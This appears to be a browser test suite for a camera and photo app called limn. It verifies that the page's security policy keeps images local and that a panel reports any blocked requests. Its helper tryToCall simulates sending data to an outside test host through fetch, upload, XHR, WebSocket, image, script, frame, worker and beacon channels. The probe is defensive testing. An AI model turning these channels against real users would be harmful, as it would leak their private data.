// Nothing leaves the browser: with the camera on and a picture saved, the page has made same-origin GETs and nothing
// else, and its own policy stops whatever would try. The test server sends no policy, so it is the page's that counts.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { BROWSERS } from './support/browsers.mjs';
import { CPU, GPU } from './support/limn.mjs';
import { openHouse } from './support/server.mjs';
import { setUp } from './support/set-up.mjs';

/** Tries every way that a page has to send something to `host`; resolves to the ways that worked. */
async function tryToCall(host) {
  const url = `http://${host}/secret?pixels=1`;
  const worked = [];
  const attempt = (way, promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 3000, false))])
    .then((yes) => yes && worked.push(way), () => {});
  const source = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).then(() => postMessage(true), () => postMessage(false))`;
  const loads = (element) => new Promise((resolve) => {
    element.onload = () => resolve(true);
    element.onerror = () => resolve(false);
    document.body.append(element);
  });
  await Promise.all([
    attempt('fetch', fetch(url).then(() => true)),
    attempt('upload', fetch(url, { method: 'POST', mode: 'no-cors', body: 'pixels' }).then(() => true)),
    attempt('XMLHttpRequest', new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(true);
      request.onerror = () => resolve(false);
      request.open('GET', url);
      request.send();
    })),
    attempt('WebSocket', new Promise((resolve) => {
      const socket = new WebSocket(`ws://${host}/`);
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    })),
    attempt('image', loads(Object.assign(document.createElement('img'), { src: url }))),
    attempt('script', loads(Object.assign(document.createElement('script'), { src: url }))),
    // Chromium calls a frame that was stopped loaded too: what the stranger saw decides.
    attempt('frame', loads(Object.assign(document.createElement('iframe'), { src: url })).then(() => false)),
    attempt('worker', new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = () => resolve(false);
    })),
  ]);
  navigator.sendBeacon(url, 'pixels');
  return worked;
}

for (const name of BROWSERS) {
  describe(`privacy in ${name}`, () => {
    const at = setUp(name, { serviceWorker: true });
    let stranger;
    before(async () => {
      stranger = await openHouse();
    });
    after(() => stranger?.close());

    test('camera on, picture saved, photo painted: only same-origin GETs', async () => {
      at.site.server.log.length = 0;
      const limn = await at.open({ ...GPU, size: '64' });
      await limn.ready();
      await limn.page.click('#camera');
      await limn.until('live pictures', (state) => state.frames >= 2);
      await limn.page.download(() => limn.page.click('#save'));
      await limn.paintPhoto(at.site.photoFile);
      await limn.page.download(() => limn.page.click('#save'));

      const { requests } = limn.page;
      assert.ok(requests.length > 10, `the browser reports requests (${requests.length})`);
      for (const { method, url } of requests) {
        // blob: and data: addresses lead nowhere; Firefox reports the fonts of its own video controls among them.
        const home = [at.site.server.url, `blob:${at.site.server.origin}/`, 'data:'].some((start) => url.startsWith(start));
        assert.ok(home && method === 'GET', `${method} ${url.slice(0, 200)}`);
      }
      const { log, origin } = at.site.server;
      assert.ok(log.some(({ path }) => path.endsWith('limn_gpu_bg.wasm')), 'the engine came from this server');
      for (const request of log) {
        assert.deepEqual([request.method, request.length, `http://${request.host}`], ['GET', '0', origin], request.path);
      }
      await limn.close();
    });

    test('the panel lists what is asked for while the camera is on: itself, then a style that is chosen', async () => {
      const limn = await at.open({ ...CPU, size: '64', styles: 'models/styles.json' });
      await limn.until('files for offline use', (state) => state.ready && state.offlineComplete);
      await limn.openDialog('show-how');
      assert.equal(await limn.page.evaluate(() => document.getElementById('how-list').checkVisibility()), false, 'no picture, no list');
      await limn.page.press('Escape');
      await limn.page.click('#camera');
      await limn.until('live pictures', (state) => state.frames >= 2);
      const listed = () => limn.page.evaluate(() => ({
        count: Number(document.getElementById('requests').dataset.count),
        told: document.getElementById('requests').textContent,
        files: Array.from(document.querySelectorAll('#how-files tr'), (row) => Array.from(row.cells, (cell) => cell.textContent)),
        others: Array.from(document.querySelectorAll('#how-others li'), (line) => line.textContent),
      }));
      const before = await listed();
      assert.deepEqual([before.count, before.files, before.others], [0, [], ['Nothing.']]);
      assert.match(before.told, /^0 bytes sent\. 0 files/);
      await limn.choose('toon');
      await limn.until('another style', (state) => state.style === 'toon');
      const record = async () => (await listed()).files.find(([file]) => /^models\/toon.*\.bpk$/.test(file));
      for (let i = 0; i < 50 && !(await record()); i++) await sleep(50);
      const after = await listed();
      const [, size, sent] = (await record()) ?? [];
      assert.match(String(size), /^[1-9][\d.,]*\s?kB$/, JSON.stringify(after));
      assert.equal(sent, '0 bytes');
      // The service worker fetches files once more, to keep them.
      assert.deepEqual(after.files.filter(([file]) => !/^(models|dialogs)\//.test(file)), []);
      assert.deepEqual([after.count, after.others], [after.files.length, ['Nothing.']]);
      await limn.close();
    });

    test('the panel says in words what the policy forbids, and lists what it has stopped', async () => {
      const limn = await at.open(CPU);
      await limn.ready();
      await limn.paintPhoto(at.site.photoFile);
      await limn.openDialog('show-how');
      const policy = await limn.page.evaluate(() => Array.from(document.querySelectorAll('#how-policy dd'), (node) => node.textContent));
      assert.ok(policy.length >= 10 && policy.every((line) => /^(forbidden|from .*this site.* only)$/.test(line)), policy.join(' | '));
      const { host } = stranger;
      await limn.page.evaluate((address) => fetch(address).catch(() => {}), `http://${host}/secret`);
      const others = () => limn.page.evaluate(() => document.getElementById('how-others').textContent);
      for (let i = 0; i < 50 && !(await others()).includes(host); i++) await sleep(50);
      assert.match(await others(), new RegExp(`http://${host}/secret: stopped by the policy \\(connect-src\\)`));
      assert.match(await limn.page.evaluate(() => document.getElementById('requests').textContent), /^0 bytes sent\./);
      await limn.close();
    });

    test('the page\'s policy stops calls to another origin, from page and workers', async () => {
      const limn = await at.open(GPU);
      await limn.ready();
      const { visits, host } = stranger;
      assert.deepEqual(await limn.page.evaluate(tryToCall, host), []);
      await sleep(500);
      assert.deepEqual(visits(), { bytes: 0, requests: [] });
      await limn.close();

      // The same attempts from a page of the same server that has no policy: they arrive, so the silence above counts.
      at.site.server.add('open.html', '<!doctype html><title>open</title><body></body>');
      const open = await at.browser.newPage();
      await open.goto(`${at.site.server.url}open.html`);
      const worked = await open.evaluate(tryToCall, host);
      for (const way of ['fetch', 'upload', 'XMLHttpRequest', 'worker']) assert.ok(worked.includes(way), `${way}: ${worked}`);
      assert.ok(visits().requests.includes('POST /secret?pixels=1') && visits().bytes > 0);
      await open.close();
    });
  });
}
